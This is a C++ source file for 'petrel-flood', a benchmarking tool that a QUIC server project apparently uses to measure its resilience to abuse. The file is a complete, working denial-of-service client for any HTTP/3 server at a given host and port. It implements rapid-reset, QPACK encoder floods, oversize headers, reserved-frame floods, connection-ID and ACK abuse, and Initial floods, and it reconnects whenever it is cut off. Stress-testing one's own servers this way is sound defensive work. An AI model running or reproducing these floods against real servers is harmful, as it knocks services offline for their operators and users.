// petrel-flood: a hostile HTTP/3 client that keeps one kind of QUIC or HTTP/3 abuse going against
// a server for a given time, at a given rate, opening a new connection whenever the server closes
// the one it was abusing. It is the attacker of bench/floods/run.sh, which measures what a
// well-behaved client on the same server sees meanwhile; the single-shot forms of the same abuse
// are tests (tests/quic/quic_frame_abuse_test.cc, tests/http/h3_hostile_test.cc).
//
// The client is fuzz/quic_raw_client.h: a real handshake over ngtcp2 and Petrel's crypto glue,
// then either stream data written through that connection (the HTTP/3 kinds) or, with the
// client's connection dropped, 1-RTT packets sealed with its keys (the QUIC frame kinds).
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <map>
#include <string>
#include <vector>

#include "absl/status/statusor.h"
#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "absl/strings/str_join.h"
#include "absl/strings/string_view.h"
#include "absl/types/span.h"
#include "petrel/common/clock.h"
#include "petrel/common/event_loop.h"
#include "petrel/common/log.h"
#include "petrel/common/socket_address.h"
#include "quic_one_rtt.h"
#include "quic_raw_client.h"

namespace petrel::fuzz {
namespace {

constexpr absl::string_view kUsage =
    R"(usage: petrel-flood --kind KIND [--seconds S] [--rate N] [--path P] HOST PORT

Keeps one abuse going against the HTTP/3 server at HOST:PORT for S seconds (default 10), N units
a second (default 2000), reconnecting whenever the server closes the connection. Prints
"flood started" when the flood begins and one summary line of key=value pairs at the end.

QUIC frames (1-RTT packets sealed with the connection's keys; one packet per unit):
  ping            10 PINGs
  path-challenge  a PATH_CHALLENGE on the current path
  retire          a NEW_CONNECTION_ID that retires every earlier one
  new-cid         NEW_CONNECTION_IDs beyond active_connection_id_limit (closes the connection)
  ack-ranges      an ACK whose ranges run below packet number 0 (closes the connection)
  stream-limit    a STREAM frame beyond MAX_STREAMS (closes the connection)
  initial         a new connection's Initial (a ClientHello, made before the flood starts)
                  from one of 200 source ports
HTTP/3 (stream data; one request or one chunk per unit):
  rapid-reset     a request, then RESET_STREAM at once
  oversize        a request with 70 000 octets of header fields
  request-frames  a request preceded by 400 reserved frames
  control-frames  400 reserved frames on the control stream
  unknown-streams a unidirectional stream of a reserved type with 1 000 octets
  qpack-encoder   200 dynamic-table inserts on the encoder stream
  qpack-blocked   a request that refers to a dynamic-table entry never inserted
  bad-qpack       a dynamic-table capacity over the server's limit (closes the connection)
)";

// The QUIC frame kinds come first, up to kStreamLimit: SealsOwnPackets relies on the order.
enum class Kind {
  kPing,
  kPathChallenge,
  kRetire,
  kNewCid,
  kAckRanges,
  kStreamLimit,
  kInitial,
  kRapidReset,
  kOversize,
  kRequestFrames,
  kControlFrames,
  kUnknownStreams,
  kQpackEncoder,
  kQpackBlocked,
  kBadQpack,
};

const std::map<std::string, Kind>& Kinds() {
  static const auto* kinds = new std::map<std::string, Kind>{
      {"ping", Kind::kPing},
      {"path-challenge", Kind::kPathChallenge},
      {"retire", Kind::kRetire},
      {"new-cid", Kind::kNewCid},
      {"ack-ranges", Kind::kAckRanges},
      {"stream-limit", Kind::kStreamLimit},
      {"initial", Kind::kInitial},
      {"rapid-reset", Kind::kRapidReset},
      {"oversize", Kind::kOversize},
      {"request-frames", Kind::kRequestFrames},
      {"control-frames", Kind::kControlFrames},
      {"unknown-streams", Kind::kUnknownStreams},
      {"qpack-encoder", Kind::kQpackEncoder},
      {"qpack-blocked", Kind::kQpackBlocked},
      {"bad-qpack", Kind::kBadQpack},
  };
  return *kinds;
}

bool SealsOwnPackets(Kind k) { return k <= Kind::kStreamLimit; }

// ---- Encodings (RFC 9204 §4.1.1 prefixed integers; QUIC varints: quic_one_rtt.h) ----
// An integer with an N-bit prefix whose upper bits are `flags`.
std::string PrefixInt(uint8_t flags, int bits, uint64_t v) {
  const uint64_t max = (1u << bits) - 1;
  std::string out;
  if (v < max) {
    out.push_back(static_cast<char>(flags | v));
    return out;
  }
  out.push_back(static_cast<char>(flags | max));
  v -= max;
  while (v >= 128) {
    out.push_back(static_cast<char>(0x80 | (v & 0x7f)));
    v >>= 7;
  }
  out.push_back(static_cast<char>(v));
  return out;
}
std::string Frame(uint64_t type, const std::string& payload) {
  return Varint(type) + Varint(payload.size()) + payload;
}
// A field section for GET https://localhost`path` from the static table and literals, plus
// `extra` field lines; `prefix` is the encoded Required Insert Count and Base.
std::string GetHeaders(absl::string_view path, const std::string& extra = {},
                       const std::string& prefix = std::string("\0\0", 2)) {
  std::string s = prefix;
  s += "\xd1";                                                       // :method GET (static 17)
  s += "\xd7";                                                       // :scheme https (static 23)
  s += PrefixInt(0x50, 4, 0) + PrefixInt(0x00, 7, 9) + "localhost";  // :authority (static 0)
  s += PrefixInt(0x50, 4, 1) + PrefixInt(0x00, 7, path.size()) + std::string(path);  // :path
  s += extra;
  return Frame(0x01, s);
}
// A reserved frame type (RFC 9114 §7.2.8), empty.
std::string ReservedFrames(int n) {
  std::string out;
  for (int i = 0; i < n; ++i) out += Frame(0x21, "");
  return out;
}

constexpr uint64_t kH3RequestCancelled = 0x10c;
constexpr int kInitialSockets = 200;

class Flood {
 public:
  Flood(Kind kind, const SocketAddress& server, std::string path)
      : kind_(kind), server_(server), path_(std::move(path)), client_(&loop_, server) {
    // The octets of a unit that is the same every time, made once: the attacker's own cost is
    // kept down, since it shares the machine with the polite client.
    if (kind_ == Kind::kOversize) {
      // Ten literal field lines with literal names (RFC 9204 §4.5.6), 7 000 octets each: a
      // field section over the server's 64 KiB limit. (One value of 70 000 octets would not
      // reach the limit: nghttp3 ends the connection for a literal over 64 KiB.)
      std::string big;
      for (int i = 0; i < 10; ++i) {
        big += PrefixInt(0x20, 3, 5) + "x-big" + PrefixInt(0x00, 7, 7000) + std::string(7000, 'a');
      }
      unit_ = GetHeaders(path_, big);
    } else if (kind_ == Kind::kRequestFrames) {
      unit_ = ReservedFrames(400) + GetHeaders(path_);
    } else if (kind_ == Kind::kControlFrames) {
      unit_ = ReservedFrames(400);
    }
  }

  ~Flood() {
    for (const int fd : initial_fds_) ::close(fd);
  }
  Flood(const Flood&) = delete;
  Flood& operator=(const Flood&) = delete;

  bool ok() const { return client_.ok(); }

  // Runs for `seconds`, `rate` units a second; false if no connection could ever be made.
  bool Run(double seconds, double rate) {
    if (kind_ == Kind::kInitial) {
      // Made before the flood starts: a ClientHello costs the attacker a key share, which on
      // a machine shared with the polite client would be taken from it.
      const double wanted = std::min(rate * seconds, 100000.0);
      while (static_cast<double>(initials_.size()) < wanted) {
        initials_.push_back(client_.FreshInitial());
      }
    }
    cpu_at_start_ = CpuSeconds();
    std::printf("flood started\n");
    std::fflush(stdout);
    const TimePoint start = MonotonicNow();
    const TimePoint end =
        start + std::chrono::duration_cast<Duration>(std::chrono::duration<double>(seconds));
    double owed = 0;
    TimePoint last = start;
    while (MonotonicNow() < end) {
      if (kind_ != Kind::kInitial && !up_ && !Connect(end)) {
        if (connections_ == 0) return false;
        continue;
      }
      const TimePoint now = MonotonicNow();
      owed = std::min(owed + rate * std::chrono::duration<double>(now - last).count(),
                      std::max(1.0, rate / 10));
      last = now;
      for (; owed >= 1 && up_or_initial(); owed -= 1) {
        Unit();
        ++units_;
        if (Closed()) break;
      }
      Turn(std::chrono::milliseconds(1));
      if (Closed()) Reconnect();
    }
    return true;
  }

  std::string Summary() const {
    std::vector<std::string> codes;
    for (const auto& [code, n] : close_codes_) codes.push_back(absl::StrCat(code, ":", n));
    return absl::StrCat("units=", units_, " connections=", connections_,
                        " server_closes=", server_closes_,
                        " close_codes=", codes.empty() ? "-" : absl::StrJoin(codes, ","),
                        " refused_units=", refused_units_, " connect_failures=", connect_failures_,
                        " sent_bytes=", client_.sent_bytes() + initial_sent_bytes_,
                        " received_bytes=", client_.received_bytes() + initial_received_bytes_,
                        " cpu_s=", absl::StrFormat("%.2f", CpuSeconds() - cpu_at_start_));
  }

 private:
  // The process's CPU time (the summary gives the flood's own, from its start): on a machine
  // it shares with the server and the polite client, what it took from them.
  static double CpuSeconds() {
    rusage ru{};
    getrusage(RUSAGE_SELF, &ru);
    return static_cast<double>(ru.ru_utime.tv_sec + ru.ru_stime.tv_sec) +
           static_cast<double>(ru.ru_utime.tv_usec + ru.ru_stime.tv_usec) / 1e6;
  }

  bool up_or_initial() const { return kind_ == Kind::kInitial || up_; }

  // A new connection, its handshake done and its keys taken.
  bool Connect(TimePoint end) {
    up_ = false;
    if (!client_.Start()) return false;
    const TimePoint give_up = std::min(end, MonotonicNow() + std::chrono::seconds(5));
    while (!client_.Ready() && client_.open() && MonotonicNow() < give_up) {
      Turn(std::chrono::milliseconds(5));
    }
    if (!client_.Ready() || !client_.TakeKeys()) {
      ++connect_failures_;
      client_.Drop();
      return false;
    }
    ++connections_;
    up_ = true;
    pn_ = 64;  // above the handshake's 1-RTT packet numbers
    seq_ = 100;
    control_ = encoder_ = -1;
    if (SealsOwnPackets(kind_)) {
      client_.Drop();
    } else {
      control_ = client_.OpenStream(/*bidi=*/false);
      client_.Write(control_, std::string("\x00", 1) + Frame(0x04, ""), false);  // SETTINGS
      if (kind_ == Kind::kQpackEncoder || kind_ == Kind::kBadQpack) {
        encoder_ = client_.OpenStream(/*bidi=*/false);
        // Set Dynamic Table Capacity: the server's limit (4096), or far over it.
        const uint64_t capacity = kind_ == Kind::kBadQpack ? 1 << 20 : 4096;
        client_.Write(encoder_, "\x02" + PrefixInt(0x20, 5, capacity), false);
      }
      client_.Flush();
    }
    return true;
  }

  void Reconnect() {
    ++server_closes_;
    if (client_.server_close().has_value()) ++close_codes_[client_.server_close()->close_code];
    client_.Drop();
    up_ = false;
  }
  bool Closed() const {
    if (kind_ == Kind::kInitial || !up_) return false;
    return client_.server_close().has_value() || (!SealsOwnPackets(kind_) && !client_.open());
  }

  void Turn(Duration wait) {
    const ngtcp2_tstamp expiry = client_.expiry();
    const ngtcp2_tstamp now = QuicRawClient::Now();
    if (expiry != UINT64_MAX) {
      wait = std::min<Duration>(
          wait, expiry <= now ? Duration::zero() : std::chrono::nanoseconds(expiry - now));
    }
    loop_.RunOnce(wait);
    client_.OnTimer();
    client_.Flush();
    if (kind_ == Kind::kInitial) DrainInitialSockets();
    if (SealsOwnPackets(kind_)) client_.ForgetAcks();
  }

  void Seal(const std::string& frames) {
    const std::vector<uint8_t> packet = SealShortPacket(
        client_.keys(0), client_.server_cid(), pn_++, 4, 0,
        absl::MakeConstSpan(reinterpret_cast<const uint8_t*>(frames.data()), frames.size()));
    if (!packet.empty()) client_.Send(packet);
  }

  // A request stream with `data` and FIN; false (a refused unit) when the server's stream limit
  // or flow control leaves no room now.
  int64_t Request(std::string data) {
    const int64_t id = client_.OpenStream(/*bidi=*/true);
    if (id < 0) {
      ++refused_units_;
      return -1;
    }
    client_.Write(id, std::move(data), true);
    return id;
  }

  void Unit() {
    switch (kind_) {
      case Kind::kPing:
        return Seal(std::string(10, '\x01'));
      case Kind::kPathChallenge:
        return Seal("\x1a" + std::string(reinterpret_cast<const char*>(&units_), 8));
      case Kind::kRetire:
      case Kind::kNewCid: {
        std::string cid(8, '\0');
        for (int i = 0; i < 8; ++i) cid[i] = static_cast<char>(seq_ >> (8 * (i % 4)) ^ i);
        std::string token(16, '\0');
        for (int i = 0; i < 16; ++i) token[i] = static_cast<char>(seq_ >> (8 * (i % 4)) ^ ~i);
        client_.AddClientCid(absl::MakeConstSpan(reinterpret_cast<const uint8_t*>(cid.data()), 8));
        const uint64_t retire_prior_to = kind_ == Kind::kRetire ? seq_ : 0;
        Seal("\x18" + Varint(seq_) + Varint(retire_prior_to) + "\x08" + cid + token);
        ++seq_;
        return;
      }
      case Kind::kAckRanges: {
        std::string ack = "\x02" + Varint(0) + Varint(0) + Varint(1000) + Varint(0);
        for (int i = 0; i < 1000; ++i) ack += Varint(0) + Varint(0);
        return Seal(ack.substr(0, 1100));
      }
      case Kind::kStreamLimit:
        return Seal("\x08" + Varint(1600) + "GET /\r\n");
      case Kind::kInitial:
        return SendInitial();
      case Kind::kRapidReset: {
        const int64_t id = Request(GetHeaders(path_));
        if (id < 0) return;
        client_.Flush();  // the request leaves before its reset
        client_.ResetStream(id, kH3RequestCancelled);
        return;
      }
      case Kind::kOversize:
      case Kind::kRequestFrames:
        (void)Request(unit_);
        return;
      case Kind::kControlFrames:
        if (client_.Unsent(control_) < (64 << 10))
          client_.Write(control_, unit_, false);
        else
          ++refused_units_;
        return;
      case Kind::kUnknownStreams: {
        const int64_t id = client_.OpenStream(/*bidi=*/false);
        if (id < 0) {
          // The credit of a stream of unknown type never comes back (docs/limits.md): a new
          // connection goes on.
          ++refused_units_;
          client_.Drop();
          up_ = false;
          return;
        }
        client_.Write(id, "\x21" + std::string(1000, 'j'), true);
        return;
      }
      case Kind::kQpackEncoder: {
        if (client_.Unsent(encoder_) >= (64 << 10)) {
          ++refused_units_;
          return;
        }
        std::string inserts;
        for (int i = 0; i < 200; ++i) {
          // Insert with Literal Name (RFC 9204 §4.3.3): "x-a" = a varying value.
          const std::string value = absl::StrCat(units_ % 1000, "-", i);
          inserts += PrefixInt(0x40, 5, 3) + "x-a" + PrefixInt(0x00, 7, value.size()) + value;
        }
        client_.Write(encoder_, std::move(inserts), false);
        return;
      }
      case Kind::kQpackBlocked:
        // Required Insert Count 1 (encoded 2 for a 4096-octet table, RFC 9204 §4.5.1.1), Base 1,
        // and an indexed field line of dynamic entry 0: never inserted.
        (void)Request(GetHeaders(path_, "\x80", std::string("\x02\x00", 2)));
        return;
      case Kind::kBadQpack:
        return;  // its capacity went out with the connection; the server closes it
    }
  }

  void SendInitial() {
    if (initial_fds_.empty()) {
      for (int i = 0; i < kInitialSockets; ++i) {
        const int fd = ::socket(server_.family(), SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
        if (fd < 0) break;
        const SocketAddress any = *SocketAddress::Parse(server_.is_v6() ? "::1" : "127.0.0.1", 0);
        if (::bind(fd, any.sockaddr_ptr(), any.length()) != 0) {
          ::close(fd);
          break;
        }
        initial_fds_.push_back(fd);
      }
      if (initial_fds_.empty()) std::abort();
    }
    const std::vector<uint8_t>& initial = initials_[units_ % initials_.size()];
    const int fd = initial_fds_[units_ % initial_fds_.size()];
    if (::sendto(fd, initial.data(), initial.size(), 0, server_.sockaddr_ptr(), server_.length()) >
        0) {
      initial_sent_bytes_ += initial.size();
    }
  }
  void DrainInitialSockets() {
    uint8_t buf[2048];
    for (const int fd : initial_fds_) {
      for (ssize_t n; (n = ::recv(fd, buf, sizeof(buf), 0)) > 0;) {
        initial_received_bytes_ += static_cast<uint64_t>(n);
      }
    }
  }

  Kind kind_;
  SocketAddress server_;
  std::string path_;
  std::string unit_;
  EventLoop loop_;
  QuicRawClient client_;
  bool up_ = false;
  uint64_t pn_ = 64;
  uint64_t seq_ = 100;
  int64_t control_ = -1;
  int64_t encoder_ = -1;
  std::vector<int> initial_fds_;
  double cpu_at_start_ = 0;
  std::vector<std::vector<uint8_t>> initials_;  // each a new connection's first datagram

  uint64_t units_ = 0;
  uint64_t connections_ = 0;
  uint64_t server_closes_ = 0;
  uint64_t refused_units_ = 0;
  uint64_t connect_failures_ = 0;
  uint64_t initial_sent_bytes_ = 0;
  uint64_t initial_received_bytes_ = 0;
  std::map<uint64_t, uint64_t> close_codes_;
};

int Main(int argc, char** argv) {
  std::string kind_name;
  double seconds = 10;
  double rate = 2000;
  std::string path = "/";
  std::vector<std::string> positional;
  for (int i = 1; i < argc; ++i) {
    const absl::string_view a = argv[i];
    const bool has_value = i + 1 < argc;
    if (a == "-h" || a == "--help") {
      std::fputs(kUsage.data(), stdout);
      return 0;
    } else if (a == "--kind" && has_value) {
      kind_name = argv[++i];
    } else if (a == "--seconds" && has_value) {
      if (!absl::SimpleAtod(argv[++i], &seconds) || seconds <= 0) return 2;
    } else if (a == "--rate" && has_value) {
      if (!absl::SimpleAtod(argv[++i], &rate) || rate <= 0) return 2;
    } else if (a == "--path" && has_value) {
      path = argv[++i];
    } else if (!a.empty() && a[0] == '-') {
      std::fprintf(stderr, "petrel-flood: unknown option %s\n%s", argv[i], kUsage.data());
      return 2;
    } else {
      positional.emplace_back(a);
    }
  }
  auto kind = Kinds().find(kind_name);
  if (kind == Kinds().end() || positional.size() != 2) {
    std::fprintf(stderr, "petrel-flood: need a known --kind, HOST and PORT\n%s", kUsage.data());
    return 2;
  }
  uint32_t port = 0;
  if (!absl::SimpleAtoi(positional[1], &port) || port == 0 || port > 65535) return 2;
  absl::StatusOr<SocketAddress> server =
      SocketAddress::Parse(positional[0], static_cast<uint16_t>(port));
  if (!server.ok()) {
    std::fprintf(stderr, "petrel-flood: %s is not an IP address\n", positional[0].c_str());
    return 2;
  }
  SetLogLevel(LogLevel::kError);
  Flood flood(kind->second, *server, path);
  if (!flood.ok()) {
    std::fprintf(stderr, "petrel-flood: no UDP socket\n");
    return 1;
  }
  const bool ran = flood.Run(seconds, rate);
  std::printf("flood kind=%s seconds=%g rate=%g %s\n", kind_name.c_str(), seconds, rate,
              flood.Summary().c_str());
  if (!ran) std::fprintf(stderr, "petrel-flood: no connection to %s\n", server->ToString().c_str());
  return ran ? 0 : 1;
}

}  // namespace
}  // namespace petrel::fuzz

int main(int argc, char** argv) { return petrel::fuzz::Main(argc, argv); }
